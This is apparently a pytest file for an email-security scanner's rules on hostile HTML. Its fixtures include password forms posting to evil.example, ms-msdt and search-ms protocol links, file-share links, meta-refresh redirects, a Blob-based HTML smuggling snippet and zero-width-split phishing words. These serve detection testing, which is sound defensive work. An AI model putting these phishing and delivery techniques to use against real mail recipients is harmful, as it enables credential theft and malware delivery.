"""Rules on what the message's own pages do besides linking."""

from __future__ import annotations

import pytest

from gatepost.finding import Severity
from gatepost.inspector.rules import markup as rules
from gatepost.inspector.rules import schemes
from judging import see
from pages import linked, page

WORDS = "many words that nobody sees " * 60


def test_data_url() -> None:  # link.data-url
    assert see(schemes.data_url, content=page("<a href='data:text/html;base64,PGI+'>x</a>")) is not None
    assert see(schemes.data_url, content=page("<iframe src='data:text/html,x'>")) is not None
    assert see(schemes.data_url, content=page("<img src='data:image/png;base64,x'>")) is None
    assert see(schemes.data_url, content=page("<a href='data:image/png;base64,x'>x</a>")) is None


def test_javascript() -> None:  # link.javascript
    assert see(schemes.javascript, content=page("<a href='java\nscript:steal()'>x</a>")) is not None
    for harmless in (
        "javascript:void(0)",
        "javascript:;",
        "javascript: window.print()",
        "https://a.example/javascript:",
    ):
        assert see(schemes.javascript, content=page(f"<a href='{harmless}'>x</a>")) is None


@pytest.mark.parametrize(
    "target",
    [
        *("file://evil.example/share/x.exe", "\\\\evil.example\\share", "search-ms:query=x&crumb=location:\\\\1.2.3.4"),
        *("ms-msdt:/id PCWDiagnostic", "ms-word:ofe|u|https://evil.example/x.docx"),
    ],
)
def test_program(target: str) -> None:  # link.program
    assert see(schemes.program, content=linked(target)) is not None


@pytest.mark.parametrize(
    "target", ["file:///C:/x", "\\\\fileserver\\x", "file://files.example.net/x", "https://a.example/"]
)
def test_no_program(target: str) -> None:
    assert see(schemes.program, content=linked(target)) is None


def test_remote_form() -> None:  # link.remote-form
    seen = see(schemes.remote_form, content=page("<form action=https://evil.example/><input type=password></form>"))
    assert seen is not None
    assert seen.severity is Severity.DANGER
    plain = see(schemes.remote_form, content=page("<form action=https://search.example/><input></form>"))
    assert plain is not None
    assert plain.weight < 1
    attached = see(
        schemes.remote_form, content=page("<form action=//evil.example/><input type=password>", name="a.html")
    )
    assert attached is not None
    assert attached.severity is Severity.DANGER
    assert see(schemes.remote_form, content=page("<form action=https://www.example.org/><input></form>")) is None
    assert see(schemes.remote_form, content=page("<form><input></form>")) is None


def test_smuggling() -> None:  # html.smuggling
    script = "<script>var b=new Blob([atob('QUJD')]);URL.createObjectURL(b)</script>"
    assert see(rules.smuggling, content=page(script)) is not None
    assert see(rules.smuggling, content=page(script, name="a.html")) is None  # the rule on attachments sees it
    assert see(rules.smuggling, content=page("<script>x()</script>")) is None


def test_script() -> None:  # html.script
    assert see(rules.script, content=page("<script>x()</script>")) is not None
    assert see(rules.script, content=page("<p>x</p>")) is None


def test_refresh() -> None:  # html.refresh
    assert (
        see(rules.refresh, content=page("<meta http-equiv=refresh content='0;url=http://evil.example/'>")) is not None
    )
    assert see(rules.refresh, content=page("<meta http-equiv=refresh content='0;url=http://a.example.org/'>")) is None
    assert see(rules.refresh, content=page("<meta http-equiv=refresh content=30>")) is None


def test_frame() -> None:  # html.frame
    assert see(rules.frame, content=page("<iframe src=http://a.example/>")) is not None
    assert see(rules.frame, content=page("<iframe src=cid:x>")) is None


def test_hidden_text() -> None:  # html.hidden-text
    much = see(rules.hidden_text, content=page(f"<p style='display:none'>{WORDS}</p>short"))
    assert much is not None
    assert much.severity is Severity.WARNING
    some = see(rules.hidden_text, content=page(f"<p style='display:none'>{WORDS}</p>{WORDS[:1000]}"))
    assert some is not None
    assert some.weight < 1
    preview = "<p style='display:none'>What this is about, for the list of messages &zwnj;&nbsp;&zwnj;&nbsp;</p>"
    assert see(rules.hidden_text, content=page(preview + "x")) is None
    twice = f"<p class=d>{WORDS}</p><p style='display:none'>{WORDS}</p>"  # a second form for telephones
    assert see(rules.hidden_text, content=page(twice)) is None


def test_too_long() -> None:  # html.too-long
    padded = page("<p>x</p>" + "<i>a</i>" * 150_000 + "<a href=http://end.example/>y</a>")
    assert see(rules.too_long, content=padded) is not None
    assert [seen.domain for seen in padded.links.web] == ["end.example"]  # its end is read
    picture = page("<img src='data:image/png;base64," + "A" * 3_000_000 + "'><a href=http://end.example/>y</a>")
    assert see(rules.too_long, content=picture) is None
    assert [seen.domain for seen in picture.links.web] == ["end.example"]


def test_split_words() -> None:  # html.split-words
    many = see(rules.split_words, content=page("<p>Pay\u200bPal acc\u200bount sus\u200bpended</p>"))
    assert many is not None
    one = see(rules.split_words, content=page("<p>Pay\u200bPal</p>"))
    assert one is not None
    assert one.weight < many.weight
    assert see(rules.split_words, content=page("<p>Auto\u00adbahn می\u200cخواهم</p>")) is None
